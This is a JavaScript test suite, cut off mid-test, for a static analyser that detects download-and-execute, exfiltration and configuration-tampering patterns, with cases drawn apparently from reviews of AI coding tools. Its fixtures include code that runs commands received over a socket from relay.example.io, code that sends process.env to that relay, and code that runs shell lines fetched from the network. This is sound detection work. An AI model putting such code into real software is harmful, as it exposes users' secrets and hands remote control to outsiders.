    const head = 'const{spawnSync}=require("child_process"),path=require("path"),os=require("os");const DIR=path.join(os.homedir(),".tool");async function latest(){const r=await fetch("https://api.github.com/repos/x/y/releases/latest");return (await r.json()).tag_name}\n';
    const named = head + 'function run(c,a){return spawnSync(c,a)}async function dl(){let v=await latest();if(process.arch==="x64")v="1.0";const a=path.join(DIR,`fd-${v}.tar.gz`);run("tar",["xzf",a,"-C",DIR])}';
    assert.deepEqual(only('download-exec', named), []);
    const folder = head + 'async function dl(){const v=await latest();spawnSync("tar",["xzf",path.join(v,"a.tgz")])}';
    assert.deepEqual(only('download-exec', folder).map(f => f.severity), ['medium'], 'a folder the server names is still its choice');
  });

  it('runs a shell command taken from a response: high', () => {
    const code = 'const cp=require("child_process");async function g(u){const{cmd}=await (await fetch(u)).json();cp.execSync(cmd)}';
    assert.deepEqual(only('download-exec', code).map(f => f.severity), ['high']);
  });

  it('runs a command received on a socket: a socket.io event or a WebSocket message (a remote command channel), high', () => {
    const socketIo = 'const{io}=require("socket.io-client"),cp=require("child_process");\nconst s=io("https://relay.example.io");s.on("run",d=>{cp.exec(d.command)})';
    assert.deepEqual(only('download-exec', socketIo).map(f => [f.severity, f.line]), [['high', 2]]);
    const ws = 'const W=require("ws"),cp=require("child_process");function c(u){const s=new W(u);s.on("message",m=>{const j=JSON.parse(m);cp.execSync(j.cmd)})}';
    assert.deepEqual(only('download-exec', ws).map(f => f.severity), ['high']);
    const browser = 'const cp=require("child_process");const s=new WebSocket("wss://relay.example.io");s.addEventListener("message",e=>cp.spawn(e.data,[]))';
    assert.deepEqual(only('download-exec', browser).map(f => f.severity), ['high']);
  });

  it("says a command from a WebSocket server's client is sent by a client, not a response (claude-code-templates' console bridge)", () => {
    const code = 'const{exec}=require("child_process");const WebSocket=require("ws");function start(){const wss=new WebSocket.Server({port:3334});wss.on("connection",ws=>{ws.on("message",m=>{const d=JSON.parse(m);exec(`expect -c \'send "${d.text}"\'`)})})}module.exports={start};';
    assert.deepEqual(only('download-exec', code).map(f => [f.severity, f.message]), [['high', `Runs a command sent by a client of a server it listens on (expect -c 'send "*"')`]]);
    assert.deepEqual(only('network-call', code).map(f => f.message), ['WebSocket server (new ws.Server)']);
  });

  it('leaves what the parent process, a lifecycle event or another emitter gives a listener', () => {
    const parent = 'const cp=require("child_process");process.on("message",m=>cp.exec(m.command))';
    assert.deepEqual(only('download-exec', parent), [], 'IPC from the parent process is no network message');
    const lifecycle = 'const W=require("ws"),cp=require("child_process");const s=new W("wss://a.io");s.on("close",c=>cp.exec("log "+c))';
    assert.deepEqual(only('download-exec', lifecycle), [], 'a close code is no message');
    const emitter = 'const E=require("events"),cp=require("child_process");const e=new E();e.on("run",d=>cp.exec(d.command))';
    assert.deepEqual(only('download-exec', emitter), []);
  });

  it('follows the environment into a socket.io emit: the message sent is the payload', () => {
    const code = 'const{io}=require("socket.io-client");const s=io("https://relay.example.io");function up(){s.emit("env",JSON.stringify(process.env))}';
    assert.deepEqual(only('exfiltration', code).map(f => f.severity), ['high']);
    const other = 'const E=require("events");const s=new E();function up(){s.emit("env",JSON.stringify(process.env))}';
    assert.deepEqual(only('exfiltration', other), [], "an event emitter's emit sends nothing over the network");
  });

  it('leaves data from the network given to a fixed program as input (git apply of a fetched patch)', () => {
    const code = 'async function a(u){const r=await fetch(u);const p=await r.text();const{execFileSync:o}=await import("child_process");o("git",["apply"],{input:p})}';
    assert.deepEqual(only('download-exec', code), []);
  });

  it('follows a download written to a temporary file and renamed or copied onto the path that is run (Amp\'s self-update, its ripgrep), not another file moved there', () => {
    const head = 'const fs=require("fs"),p=require("path"),o=require("os"),cp=require("child_process"),z=require("zlib");const BIN=p.join(o.homedir(),".t","bin","t");';
    const renamed = `${head}async function up(u){const r=await fetch(u);const tmp=BIN+".tmp";fs.writeFileSync(tmp,z.gunzipSync(Buffer.from(await r.arrayBuffer())));fs.chmodSync(tmp,493);fs.renameSync(tmp,BIN)}\nfunction v(){return cp.execFileSync(BIN,["--version"])}`;
    const [d, ...rest] = only('download-exec', renamed);
    assert.equal(rest.length, 0);
    assert.equal(d.severity, 'medium');
    assert.equal(d.line, 2);
    assert.ok(d.evidence.includes('call fs.renameSync') && d.evidence.includes('call fs.writeFileSync'), JSON.stringify(d.evidence));
    const copied = `${head}async function up(u){const r=await fetch(u);const tmp=p.join(o.tmpdir(),"t.part");await fs.promises.writeFile(tmp,Buffer.from(await r.arrayBuffer()));await fs.promises.copyFile(tmp,BIN)}\nfunction v(){return cp.spawn(BIN,[])}`;
    assert.deepEqual(only('download-exec', copied).map(f => f.severity), ['medium']);
    const local = `${head}async function up(u){const r=await fetch(u);const tmp=BIN+".tmp";fs.writeFileSync(tmp,Buffer.from(await r.arrayBuffer()));fs.renameSync(p.join(o.homedir(),"backup"),BIN)}\nfunction v(){return cp.execFileSync(BIN,["--version"])}`;
    assert.deepEqual(only('download-exec', local), [], 'a local file moved onto the path is no download');
    // Amp: the binary read back as a typed array, and run through its process helper (`Fh(path, ["--version"])`).
    const wrapped = `${head}async function body(r){return new Uint8Array(await r.arrayBuffer())}async function up(u){const r=await fetch(u);const tmp=BIN+".tmp";fs.writeFileSync(tmp,z.gunzipSync(await body(r)));fs.renameSync(tmp,BIN)}\nfunction Fh(b,a){return cp.spawn(b,a)}function bin(){return BIN}async function version(p){return Fh(p,["--version"])}version(bin())`;
    const once = only('download-exec', wrapped);
    assert.equal(once.length, 1, once.map(f => `${f.line}:${f.column}`).join(' '));
    assert.equal(once[0].column, wrapped.split('\n')[1].indexOf('Fh(p') + 1, 'told once, at the wrapper\'s call');
  });

  it('follows a download written through a file handle or a descriptor in a loop over the response body (Kimi Code\'s self-updater)', () => {
    const code = 'import{open,chmod,rename}from"node:fs/promises";import{openSync,writeSync,closeSync}from"node:fs";import{join,dirname}from"node:path";import{spawn}from"node:child_process";\nasync function get(u,p){const r=await fetch(u);const file=await open(p,"w");try{for await(const chunk of r.body){let o=0;while(o<chunk.length){const{bytesWritten:n}=await file.write(chunk,o);o+=n}}}finally{await file.close()}}\nasync function swap(v){const d=join(dirname(process.execPath),".staging");const part=join(d,`k-${v}.part`),staged=join(d,`k-${v}`);await get(`https://cdn.example.com/k/${v}`,part);await chmod(part,493);await rename(part,staged);spawn(staged,["--version"]);await rename(staged,process.execPath)}\nasync function byFd(u,p){const r=await fetch(u);const fd=openSync(p,"w");writeSync(fd,Buffer.from(await r.arrayBuffer()));closeSync(fd);spawn(p)}';
    const found = only('download-exec', code).map(f => `${f.line} ${f.severity} ${f.message}`);
    assert.deepEqual(found, [
      '3 medium Writes a download to staged and runs it (*/.staging/k-* --version)',
      '3 medium Replaces its own program file (process.execPath) with a download (fs.promises.rename): the next start runs it',
      '4 medium Writes a download to p and runs it (child_process.spawn)',
    ]);
  });

  // Factory's launcher and self-updater (review 110): bytes cut out of the download, or written chunk by chunk in parts, with subarray.
  it('follows a download through a view of some of its bytes (buf.subarray): a file cut out of a tarball, a chunk written in parts', () => {
    const cut = 'const fs=require("fs"),z=require("zlib"),cp=require("child_process");\nfunction pick(buf,name){let o=0;while(o<buf.length){const h=buf.subarray(o,o+512);o+=512;const size=parseInt(h.toString("utf-8",124,136),8);if(h.toString("utf-8",0,100).startsWith(name))return buf.subarray(o,o+size);o+=size}return null}\nasync function install(u,p){const r=await fetch(u);const data=pick(z.gunzipSync(Buffer.from(await r.arrayBuffer())),"package/bin/t");fs.writeFileSync(p,data,{mode:493});cp.execFileSync(p,["--version"])}';
    assert.deepEqual(only('download-exec', cut).map(f => [f.severity, f.line]), [['medium', 3]]);
    const parts = 'import{promises as y}from"fs";import{spawn}from"child_process";\nasync function stage(u,p){const l=await fetch(u);const E=await y.open(p,"w");try{const t=l.body.getReader();for(;;){const{done,value:M}=await t.read();if(done)break;let o=0;while(o<M.byteLength){const{bytesWritten:n}=await E.write(M.subarray(o));o+=n}}}finally{await E.close()}spawn(p,["--version"])}';
    assert.deepEqual(only('download-exec', parts).map(f => [f.severity, f.line]), [['medium', 2]]);
  });

  it("reports a download written or unpacked and moved over the running program's own file (Copilot CLI's binary self-update), not a file beside it or a local copy", () => {
    const direct = 'const fs=require("fs");async function u(x){const r=await fetch(x);const t=process.execPath+".new";fs.writeFileSync(t,Buffer.from(await r.arrayBuffer()));fs.renameSync(t,process.execPath)}';
    const [d, ...rest] = only('download-exec', direct);
    assert.equal(rest.length, 0, 'the .new file beside it is not the program');
    assert.deepEqual([d.severity, d.message], ['medium', 'Replaces its own program file (process.execPath) with a download (fs.renameSync): the next start runs it']);
    const unpacked = 'const fs=require("fs/promises"),path=require("path"),tar=require("tar");async function up(url){const res=await fetch(url);const buf=Buffer.from(await res.arrayBuffer());const dir=path.join(path.dirname(process.execPath),".update");await new Promise(ok=>{const s=tar.x({cwd:dir});s.on("finish",ok);s.end(buf)});const fresh=path.join(dir,path.basename(process.execPath));await fs.chmod(fresh,493);await fs.rename(fresh,process.execPath)}';
    assert.deepEqual(only('download-exec', unpacked).map(f => f.severity), ['medium']);
    const local = 'const fs=require("fs");function restore(f){fs.copyFileSync(f,process.execPath)}async function u(x){const r=await fetch(x);fs.writeFileSync("/tmp/notes.txt",await r.text())}';
    assert.deepEqual(only('download-exec', local), []);
  });

  it("follows a response out of a callback a helper calls (Copilot CLI's auth-retry wrapper around its release download)", () => {
    const code = 'const fs=require("fs"),p=require("path"),o=require("os"),cp=require("child_process");\nasync function withAuth(doFetch,token){return doFetch(token?{authorization:`token ${token}`}:{})}async function dl(u,dest,t){const res=await withAuth(h=>fetch(u,{headers:h}),t);fs.writeFileSync(dest,Buffer.from(await res.arrayBuffer()))}\nasync function install(a,t){const f=p.join(o.tmpdir(),a.name);await dl(a.url,f,t);cp.execFile(f,["/CURRENTUSER"])}';
    assert.deepEqual(only('download-exec', code).map(f => [f.severity, f.line]), [['medium', 3]]);
    const other = 'const fs=require("fs"),p=require("path"),o=require("os"),cp=require("child_process");\nasync function withAuth(doFetch,token){return doFetch({})}async function dl(u,dest,t){const res=await withAuth(h=>readLocal(u),t);fs.writeFileSync(dest,res)}\nasync function install(a,t){const f=p.join(o.tmpdir(),a.name);await dl(a.url,f,t);cp.execFile(f,[])}';
    assert.deepEqual(only('download-exec', other), [], 'a callback that fetches nothing gives no download');
  });

  it('follows a downloaded archive unpacked into a folder to a program of that folder (tar, extract-zip, unzip, ditto then a rename), medium (Jules, Playwright, Qwen Code)', () => {
    const head = 'const fs=require("fs"),https=require("https"),path=require("path"),os=require("os"),cp=require("child_process"),zlib=require("zlib");function dl(u,z){return new Promise(r=>{https.get(u,res=>{const f=fs.createWriteStream(z);res.pipe(f);f.on("finish",r)})})}\n';
    const tar = `${head}const tar=require("tar");const D=path.join(os.tmpdir(),"tool");function unpack(a,d){fs.createReadStream(a).pipe(zlib.createGunzip()).pipe(tar.extract({cwd:d}))}async function run(){const a=path.join(D,"t.tgz");await dl("https://a.example.io/t.tgz",a);unpack(a,D);cp.spawn(path.join(D,"tool"),[])}`;
    const [t, ...rest] = only('download-exec', tar);
    assert.equal(rest.length, 0);
    assert.deepEqual([t.severity, t.line], ['medium', 2]);
    assert.equal(t.message, 'Unpacks a downloaded archive into d and runs a program from it (*/tool/tool)');
    assert.ok(t.related.some(r => r.message.startsWith('the archive is unpacked here (tar.extract)')), JSON.stringify(t.related));
    const zip = `${head}const extractZip=require("extract-zip");async function i(){const d=path.join(os.homedir(),".cache","b");const z=path.join(os.tmpdir(),"b.zip");await dl("https://a.example.io/b.zip",z);await extractZip(z,{dir:d});await fs.promises.chmod(path.join(d,"chrome"),493);cp.spawn(\`\${d}/chrome\`,["--headless"])}`;
    assert.deepEqual(only('download-exec', zip).map(f => f.severity), ['medium']);
    const unzip = `${head}async function i(){const d=path.join(os.tmpdir(),"x");const z=path.join(os.tmpdir(),"x.zip");await dl("https://a.example.io/x.zip",z);cp.execFileSync("unzip",["-o",z,"-d",d]);cp.execFileSync(path.join(d,"bin","x"),["--version"])}`;
    assert.deepEqual(only('download-exec', unzip).map(f => f.severity), ['medium']);
    const ditto = `${head}async function i(){const t=path.join(os.tmpdir(),"h");const z=path.join(t,"H.zip");const x=path.join(t,"out");await dl("https://a.example.io/H.zip",z);cp.execFileSync("/usr/bin/ditto",["-x","-k",z,x]);const APP="/Applications/H.app";fs.renameSync(path.join(x,"H.app"),APP);cp.execFileSync("/usr/bin/open",[APP])}`;
    assert.deepEqual(only('download-exec', ditto).map(f => f.severity), ['medium'], 'unpacked, moved, then opened');
    // JetBrains Junie's postinstall (review 59): the zip unpacked by a shell's line, quoted words and all.
    const line = `${head}async function i(){const d=path.join(os.tmpdir(),"x");const z=path.join(d,"x.zip");await dl("https://a.example.io/x.zip",z);cp.execSync(\`unzip -q -o "\${z}" -d "\${d}"\`,{stdio:"ignore"});cp.spawnSync(path.join(d,"x"),[])}`;
    const [l, ...more] = only('download-exec', line);
    assert.equal(more.length, 0);
    assert.equal(l.message, 'Unpacks a downloaded archive into d and runs a program from it (*/x/x)');
    assert.ok(l.related.some(r => r.message === 'the archive is unpacked here (unzip)'), JSON.stringify(l.related));
    // Kilo CLI's language-server installers (review 60): a command list given to helpers, tar unpacking into the folder it runs in.
    const listed = `${head}function run(cmd,opts={}){return cp.spawn(cmd[0],cmd.slice(1),{cwd:opts.cwd})}var sh=(cmd,opts={})=>run(cmd,{...opts,nothrow:!0});function launch(bin,opts){return run([bin],opts)}var P={bin:path.join(os.homedir(),".t","bin")};async function i(){const a=path.join(P.bin,"z.tar.xz");await dl("https://a.example.io/z.tar.xz",a);await sh(["tar","-xf",a],{cwd:P.bin});return launch(path.join(P.bin,"zls"),{})}`;
    const found = only('download-exec', listed);
    assert.ok(found.length > 0 && found.every(f => f.message.startsWith('Unpacks a downloaded archive into P.bin and runs a program from it')), JSON.stringify(found.map(f => f.message)));
    assert.ok(!found.some(f => f.line === 2 && f.column === listed.split('\n')[1].indexOf('sh(["tar"') + 1), 'tar given the archive does not run it');
    const joined = `${head}async function i(){const d=path.join(os.tmpdir(),"x");const a=path.join(d,"x.tgz");await dl("https://a.example.io/x.tgz",a);cp.execSync("mkdir -p "+d+" && tar -xzf "+a+" -C "+d);cp.spawnSync(path.join(d,"x"),[])}`;
    assert.deepEqual(only('download-exec', joined).map(f => f.severity), ['medium'], 'tar after && in a line built with +');
    // Gemini CLI 0.38.0's ripgrep download (review 85): written to a temporary file, moved (fs-extra) to the archive's place, then unpacked.
    const movedFirst = `${head}const fse=require("fs-extra");const BIN=path.join(os.homedir(),".t","bin");async function rg(){const archive=path.join(os.homedir(),".cache","rg.tgz");const tmp=path.join(os.tmpdir(),"tmp-file");await dl("https://a.example.io/rg.tgz",tmp);await fse.move(tmp,archive);cp.execFileSync("tar",["xzf",archive,"-C",BIN]);return cp.spawn(path.join(BIN,"rg"),["--json"])}`;
    assert.deepEqual(only('download-exec', movedFirst).map(f => `${f.severity} ${f.message}`), ['medium Unpacks a downloaded archive into BIN and runs a program from it (~/.t/bin/rg --json)']);
    // Qwen Code 0.21.10's standalone update (review 83): a folder inside the unpacked one, resolved, run by a helper it is given to.
    const nested = `${head}const tar=require("tar");function smoke(dir){const bin=path.join(path.resolve(dir),"node","bin","node");return cp.execFileSync(bin,["--version"])}async function update(tmp,ex){const a=path.join(tmp,"q.tgz");await dl("https://a.example.io/q.tgz",a);await tar.x({file:a,cwd:ex});return smoke(path.join(ex,"qwen-code"))}`;
    assert.deepEqual(only('download-exec', nested).map(f => `${f.severity} ${f.message}`), ['medium Unpacks a downloaded archive into ex and runs a program from it (*/node/bin/node --version)']);
  });

  it('leaves an unpacked download that is only read, a program of another folder, and a local archive unpacked and run', () => {
    const head = 'const fs=require("fs"),https=require("https"),path=require("path"),os=require("os"),cp=require("child_process");const tar=require("tar");function dl(u,z){return new Promise(r=>{https.get(u,res=>{res.pipe(fs.createWriteStream(z))})})}\n';
    const read = `${head}async function i(){const d=path.join(os.tmpdir(),"x");const a=path.join(d,"x.tgz");await dl("https://a.example.io/x.tgz",a);await tar.x({file:a,cwd:d});return fs.readFileSync(path.join(d,"notes.txt"),"utf8")}`;
    assert.deepEqual(only('download-exec', read), []);
    const other = `${head}async function i(){const d=path.join(os.tmpdir(),"x");const a=path.join(d,"x.tgz");await dl("https://a.example.io/x.tgz",a);await tar.x({file:a,cwd:d});cp.spawn(path.join(os.homedir(),"bin","tool"),[])}`;
    assert.deepEqual(only('download-exec', other), []);
    const local = `${head}async function i(src){const d=path.join(os.tmpdir(),"x");await tar.x({file:src,cwd:d});cp.spawn(path.join(d,"tool"),[])}`;
    assert.deepEqual(only('download-exec', local), []);
    const lineLocal = `${head}async function i(src){const d=path.join(os.tmpdir(),"x");cp.execSync(\`unzip -o "\${src}" -d "\${d}"\`);cp.spawn(path.join(d,"tool"),[])}`;
    assert.deepEqual(only('download-exec', lineLocal), [], "a shell's line unpacking a local archive");
    // Gemini CLI 0.45.2's `gemma setup` (review 61): a body read chunk by chunk into a write stream, renamed, run through a helper.
    const chunks = 'const fs=require("fs"),path=require("path"),cp=require("child_process");async function get(u,dest){const tmp=dest+".part";const r=await fetch(u);const out=fs.createWriteStream(tmp);const rd=r.body.getReader();for(;;){const{done,value}=await rd.read();if(done)break;out.write(value)}out.end();fs.renameSync(tmp,dest)}function run(b,a){return cp.spawn(b,a)}async function setup(h){const bin=path.join(h,".t","bin","lit");await get("https://x.example.com/lit",bin);fs.chmodSync(bin,493);return run(bin,["pull"])}';
    assert.deepEqual(only('download-exec', chunks).map(f => `${f.severity} ${f.message}`), ['medium Writes a download to dest and runs it (child_process.spawn via run())']);
    const copied = 'const fs=require("fs"),cp=require("child_process");function copy(src,dest){const out=fs.createWriteStream(dest);const rd=fs.createReadStream(src);rd.on("data",c=>out.write(c));cp.spawn(dest,[])}';
    assert.deepEqual(only('download-exec', copied), [], 'a local file copied chunk by chunk is no download');
    // Kilo CLI's background runner (review 60): a download written to one property of a job, another property run.
    const job = 'const fs=require("fs/promises"),cp=require("child_process");async function run(job,url){const r=await fetch(url);await fs.writeFile(job.log,await r.text());return cp.spawn(job.shell,job.args)}';
    assert.deepEqual(only('download-exec', job), [], "job.log written, job.shell run: two properties, not one file");
    const same = 'const fs=require("fs/promises"),cp=require("child_process");async function run(job,url){const r=await fetch(url);await fs.writeFile(job.bin,Buffer.from(await r.arrayBuffer()));return cp.spawn(job.bin,[])}';
    assert.deepEqual(only('download-exec', same).map(f => f.severity), ['medium'], 'the same property written and run');
    const echoed = `${head}async function i(){const d=path.join(os.tmpdir(),"x");const z=path.join(d,"x.zip");await dl("https://a.example.io/x.zip",z);cp.execSync(\`echo unzip "\${z}" -d "\${d}"\`);cp.spawn(path.join(d,"tool"),[])}`;
    assert.deepEqual(only('download-exec', echoed), [], 'unzip only printed by echo is no unpacking');
  });

  it("takes a shell's inline line from the network as a command (high), a fixed line given a version as arguments (medium), and a DNS address as no content", () => {
    const line = 'const cp=require("child_process");async function b(u){const t=await (await fetch(u)).text();cp.execFile("sh",["-c",t])}';
    assert.deepEqual(only('download-exec', line).map(f => f.severity), ['high']);
    const version = 'const cp=require("child_process");async function c(u){const v=await (await fetch(u)).text();const cmd=`npm i -g x@${v}`;cp.spawn("bash",["-c",cmd]);cp.spawn("bash",["-c","npm install -g x@"+v])}';
    assert.deepEqual(only('download-exec', version).map(f => f.severity), ['medium', 'medium']);
    const dns = 'const dns=require("dns"),cp=require("child_process");async function a(){const r=await dns.promises.lookup("localhost");cp.execFile(process.execPath,["--eval","1",r.address])}async function t(d){const x=await dns.promises.resolveTxt(d);cp.execFile("sh",["-c",x[0][0]])}';
    assert.deepEqual(only('download-exec', dns).map(f => `${f.severity} ${f.line}:${f.column}`), [`high 1:${dns.indexOf('cp.execFile("sh"') + 1}`], 'an address lookup gives no content; a TXT record may');
  });

  // Qoder CLI 1.0.12's updater (review 63): the version from the manifest names the new build under the tool's own folder.
  it("takes a program named by a server's version under the tool's own folder as a file it chose, not a command from the network", () => {
    const code = 'const cp=require("child_process"),fs=require("fs"),path=require("path"),os=require("os");const DIR=path.join(os.homedir(),".t","bin");async function up(u){const m=await (await fetch(u)).json();const dest=path.join(DIR,`t-${m.latest}`);fs.writeFileSync(dest,Buffer.from(await (await fetch(m.url)).arrayBuffer()));cp.execFileSync(dest,["--version"])}';
    assert.deepEqual(only('download-exec', code).map(f => `${f.severity} ${f.message}`), ['medium Writes a download to dest and runs it (~/.t/bin/t-* --version)']);
    const sent = 'const cp=require("child_process");async function up(u){const m=await (await fetch(u)).json();cp.execFileSync(m.program,["--version"])}';
    assert.deepEqual(only('download-exec', sent).map(f => f.severity), ['high'], 'a program the server names itself');
  });

  it('follows the written path to a process start in another function: a module constant, a helper without parameters, a shell command built around it', () => {
    const head = 'const fs=require("fs"),p=require("path"),o=require("os"),cp=require("child_process");';
    const constant = `${head}const B=p.join(o.homedir(),".t","bin");async function d(u){const r=await fetch(u);fs.writeFileSync(B,Buffer.from(await r.arrayBuffer()))}\nfunction run(a){return cp.spawn(B,a)}`;
    const second = constant.split('\n')[1];
    assert.deepEqual(only('download-exec', constant).map(f => [f.severity, f.line, f.column]), [['medium', 2, second.indexOf('cp.spawn') + 1]], 'at the process start');
    const helper = `${head}function bin(){return p.join(o.homedir(),".t","bin")}async function d(u){const r=await fetch(u);fs.writeFileSync(bin(),Buffer.from(await r.arrayBuffer()))}\nfunction v(){return cp.execFileSync(bin(),["--version"])}`;
    assert.deepEqual(only('download-exec', helper).map(f => f.severity), ['medium']);
    const shell = `${head}const B=p.join(o.homedir(),".t","bin");async function d(u){const r=await fetch(u);fs.writeFileSync(B,Buffer.from(await r.arrayBuffer()))}\nfunction v(){return cp.execSync(\`"\${B}" --version\`)}`;
    assert.deepEqual(only('download-exec', shell).map(f => f.severity), ['medium']);
    const interpreter = `${head}const S=p.join(o.tmpdir(),"install.sh");async function d(u){const r=await fetch(u);fs.writeFileSync(S,await r.text())}\nfunction i(){return cp.spawnSync("bash",[S])}`;
    assert.deepEqual(only('download-exec', interpreter).map(f => f.severity), ['medium'], 'a shell given the downloaded script runs it');
    const ps = interpreter.replace('cp.spawnSync("bash",[S])', 'cp.spawnSync("powershell.exe",["-NoProfile","-ExecutionPolicy","Bypass","-File",S])');
    assert.deepEqual(only('download-exec', ps).map(f => f.severity), ['medium'], 'powershell -File runs the script');
  });

  it('follows a response piped into a write stream (pipe, pipeline) as a download, not a local copy', () => {
    const head = 'const fs=require("fs"),p=require("path"),o=require("os"),cp=require("child_process"),https=require("https"),{pipeline:pl}=require("stream/promises");const B=p.join(o.homedir(),".t","bin");';
    const piped = `${head}function d(u){https.get(u,res=>{const w=fs.createWriteStream(B,{mode:493});res.pipe(w)})}\nfunction run(){return cp.spawn(B,[])}`;
    assert.deepEqual(only('download-exec', piped).map(f => f.severity), ['medium']);
    const pipelined = `${head}async function d(u){const r=await fetch(u);await pl(r.body,fs.createWriteStream(B))}\nfunction run(){return cp.spawn(B,[])}`;
    assert.deepEqual(only('download-exec', pipelined).map(f => f.severity), ['medium']);
    const copied = `${head}function c(f){fs.createReadStream(f).pipe(fs.createWriteStream(B))}\nfunction run(){return cp.spawn(B,[])}`;
    assert.deepEqual(only('download-exec', copied), [], 'a local file copied is not a download');
  });

  it('leaves a download only handed to a fixed program (tar), and another file made by the same helper or in the same folder', () => {
    const head = 'const fs=require("fs"),p=require("path"),o=require("os"),cp=require("child_process");const D=p.join(o.homedir(),".t");function at(n){return p.join(D,n)}';
    const tar = `${head}async function u(x){const r=await fetch(x);const a=at("u.tgz");fs.writeFileSync(a,Buffer.from(await r.arrayBuffer()));cp.execFileSync("tar",["-xzf",a,"-C",D])}`;
    assert.deepEqual(only('download-exec', tar), [], 'tar reads the archive, it does not run it');
    const tarShell = `${head}async function u(x){const r=await fetch(x);const a=at("u.tgz");fs.writeFileSync(a,Buffer.from(await r.arrayBuffer()));cp.execSync(\`tar -xzf \${a}\`)}`;
    assert.deepEqual(only('download-exec', tarShell), []);
    // Letta's archive extraction on Windows: the archive is a parameter of an inline script, not the script.
    const inline = `${head}async function u(x){const r=await fetch(x);const a=at("u.zip");fs.writeFileSync(a,Buffer.from(await r.arrayBuffer()));cp.spawnSync("powershell.exe",["-NoProfile","-Command","& { param($a) Expand-Archive $a }",a]);cp.spawnSync("bash",["-c","unzip \\"$1\\"",a])}`;
    assert.deepEqual(only('download-exec', inline), [], 'a file given to an inline script is its parameter');
    const helper = `${head}async function u(x){const r=await fetch(x);fs.writeFileSync(at("settings.json"),await r.text())}\nfunction run(){return cp.spawn(at("bin"),[])}`;
    assert.deepEqual(only('download-exec', helper), [], 'at("settings.json") and at("bin") are two files');
    const folder = `${head}const S=p.join(D,"settings.json");async function u(x){const r=await fetch(x);fs.writeFileSync(S,await r.text())}\nfunction run(){return cp.spawn(p.join(D,"bin"),[])}`;
    assert.deepEqual(only('download-exec', folder), [], 'a program in the folder a download went to is not the download');
  });

  it('leaves a download that is only saved, and a polyfill eval next to a fetch', () => {
    assert.deepEqual(only('download-exec', 'const fs=require("fs");async function s(u,p){fs.writeFileSync(p,await (await fetch(u)).text())}'), []);
    assert.deepEqual(only('download-exec', 'async function g(u){const G=Function("return this")();return fetch(u)}'), []);
  });
});

describe('correlation: config-tamper', () => {
  // Gemini CLI 0.47.0 (review 73): /setup-github makes the workflows folder and a helper writes each downloaded workflow into it.
  it('follows a workflows folder a caller gives to the helper that writes a file into it', () => {
    const code = 'const fs=require("fs"),path=require("path");async function writeAll(names,dir){for(const n of names){const dest=path.resolve(dir,path.basename(n));fs.createWriteStream(dest,{flags:"w"}).end("x")}}async function setup(root){const wd=path.join(root,".github","workflows");await writeAll(["a.yml"],wd)}';
    assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`), ['medium Writes CI workflow (GitHub Actions) (fs.createWriteStream)']);
  });

  // Qwen Code 0.15.10 (review 73): /init writes the first of its context file names, its own QWEN.md; AGENTS.md only when the user puts it first.
  it('does not take the elements of a list for the name a list-or-string getter returns where it is no list', () => {
    const code = 'const fs=require("fs"),path=require("path");var DEF,AGENT,cur;function set(n){if(Array.isArray(n)){if(n.length>0)cur=n.map(x=>x.trim())}else if(n&&n.trim()!==""){cur=n.trim()}}function get(){if(Array.isArray(cur))return cur[0];return cur}function all(){return Array.isArray(cur)?cur:[cur]}DEF="ACME.md";AGENT="AGENTS.md";cur=[DEF,AGENT];function start(s){if(s.fileName)set(s.fileName);else set(all())}function init(d){fs.writeFileSync(path.join(d,get()),"")}module.exports={start,init}';
    assert.deepEqual(only('config-tamper', code), []);
    const named = code.replace('cur=n.trim()', 'cur="AGENTS.md"');
    assert.deepEqual(only('config-tamper', named).map(f => f.severity), ['medium'], 'a string the setter gives is what the getter returns');
  });

  // task-master-ai 0.43.1 (review 99): its slash-command profiles keep the other assistant's folder in a class field.
  it("follows a folder a class keeps in a field into the write that joins it (this.commandsDir)", () => {
    const code = 'const fs=require("fs"),path=require("path");class K{commandsDir=".claude/commands";add(root,c){fs.writeFileSync(path.join(root,this.commandsDir,"x.md"),c)}}module.exports=(r,c)=>new K().add(r,c)';
    assert.deepEqual(only('config-tamper', code).map(f => f.severity), ['high']);
    assert.deepEqual(only('config-tamper', code.replace('".claude/commands"', '"out/commands"')), [], 'a field holding a folder of no other tool');
  });

  it("flags a write next to another assistant's configuration as high", () => {
    const code = 'const fs=require("fs");function i(h,c){fs.writeFileSync(`${h}/.cursor/mcp.json`,JSON.stringify(c))}';
    const [t] = only('config-tamper', code, ['anthropic']);
    assert.equal(t.severity, 'high');
    assert.equal(t.column, code.indexOf('fs.writeFileSync') + 1);
    assert.match(t.message, /Cursor configuration/);
  });

  // Qoder CLI 1.0.12 (review 63): a worktree's configured folders symlinked in one loop; a second loop's
  // variable of the same name holds `.git/hooks`, only given to `git config core.hooksPath`.
  it('does not take a later loop\'s variable of the same name for the path a first loop writes', () => {
    const code = [
      'const path=require("path"),fsp=require("fs/promises"),{spawn}=require("child_process");',
      'async function setup(A,i,I){let Q=I?.symlinkDirectories??[];',
      'for(let I of Q){let Q=path.join(i,I);await fsp.symlink(path.join(A,I),Q,"dir")}',
      'for(let I of [path.join(A,".husky"),path.join(A,".git","hooks")])spawn("git",["config","core.hooksPath",I],{cwd:i})}',
    ].join('\n');
    assert.deepEqual(only('config-tamper', code), []);
    const hooks = code.replace('let Q=path.join(i,I)', 'let Q=path.join(i,".git","hooks",I)');
    assert.deepEqual(only('config-tamper', hooks).map(f => f.severity), ['medium']);
  });

  // Letta Code 0.32.18: git hooks written into a repository a caller names; one caller (a test set-up) makes it under tmpdir().
  it('keeps a write whose folder only some caller makes in a temporary folder (medium)', () => {
    const code = 'const fs=require("fs"),{join}=require("path"),os=require("os");function hook(dir){const h=join(dir,".git","hooks");fs.writeFileSync(join(h,"pre-commit"),"#!/bin/sh")}function setup(cfg){hook(cfg.memoryDir)}function selfTest(){hook(fs.mkdtempSync(join(os.tmpdir(),"t-")))}module.exports={setup,selfTest}';
    assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`), ['medium Writes git hook (*/.git/hooks/pre-commit)']);
  });

  // Claude Code 1.0.25 (review 69): every write goes through an fs facade returned by a getter through an alias
  // (`var Ju9 = Wu9; function b1() { return Ju9 }`), and /terminal-setup chooses the editor's folder in a conditional.
  it('follows writes through an aliased fs facade, and a path whose folder a conditional chooses inside the join (medium)', () => {
    const code = [
      'const fsx=require("fs"),{join}=require("path"),{homedir}=require("os");',
      'var facade={appendFileSync(p,d){fsx.appendFileSync(p,d)},writeFileSync(p,d){fsx.writeFileSync(p,d)}};var current=facade;function getFs(){return current}',
      'function alias(line){getFs().appendFileSync(join(homedir(),".zshrc"),line)}',
